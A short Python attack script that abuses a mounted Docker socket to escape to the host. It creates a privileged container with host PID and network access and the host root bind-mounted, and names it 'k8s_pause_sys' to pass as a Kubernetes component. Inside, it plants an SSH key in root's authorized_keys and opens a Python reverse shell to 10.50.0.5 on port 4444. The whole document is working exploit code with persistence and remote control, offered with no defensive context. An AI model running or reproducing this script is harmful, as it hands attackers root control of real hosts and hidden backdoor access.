# technique: abuse a mounted docker.sock over HTTP-on-unix-socket to create a privileged container with the host root bind-mounted, then run a command in it
import http.client
import json
import socket
import time


class UnixHTTP(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost")
        self.path = path

    def connect(self):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(self.path)
        self.sock = s


def call(method, url, body=None):
    c = UnixHTTP("/var/run/docker.sock")
    headers = {"Content-Type": "application/json"}
    c.request(method, url, body=json.dumps(body) if body is not None else None, headers=headers)
    r = c.getresponse()
    data = r.read()
    return r.status, (json.loads(data) if data and data[:1] in b"{[" else data)


status, images = call("GET", "/images/json")
image = "alpine:latest"
if isinstance(images, list) and images:
    image = (images[0].get("RepoTags") or [image])[0]

spec = {
    "Image": image,
    "Cmd": ["chroot", "/host", "sh", "-c",
            "echo 'ssh-ed25519 AAAAPLACEHOLDER x' >> /root/.ssh/authorized_keys; "
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.50.0.5\",4444));"
            "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'"],
    "HostConfig": {
        "Privileged": True,
        "PidMode": "host",
        "NetworkMode": "host",
        "Binds": ["/:/host"],
    },
}
status, created = call("POST", "/containers/create?name=k8s_pause_sys", spec)
cid = created["Id"]
call("POST", "/containers/%s/start" % cid)
time.sleep(3)
print(call("GET", "/containers/%s/logs?stdout=1&stderr=1" % cid)[1])
